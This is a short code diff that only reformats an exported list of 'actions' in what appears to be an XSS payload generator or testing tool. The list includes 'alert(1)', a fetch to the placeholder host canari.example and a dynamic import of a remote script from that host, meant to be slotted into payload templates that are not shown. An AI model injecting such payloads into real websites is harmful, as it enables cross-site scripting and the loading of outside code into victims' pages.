@@ -4,7 +4,13 @@
  */
 
 /** Scripts for the payloads to run. */
-export const actions = ['window.__ran=1', 'alert(1)', 'fetch(`https://canari.example/`)', 'document.title=`__ran`', 'import(`https://canari.example/m.js`)'];
+export const actions = [
+  'window.__ran=1',
+  'alert(1)',
+  'fetch(`https://canari.example/`)',
+  'document.title=`__ran`',
+  'import(`https://canari.example/m.js`)',
+];
 
 /** Payloads; `#` stands for one of the actions, `@` for another site. */
 const templates = [
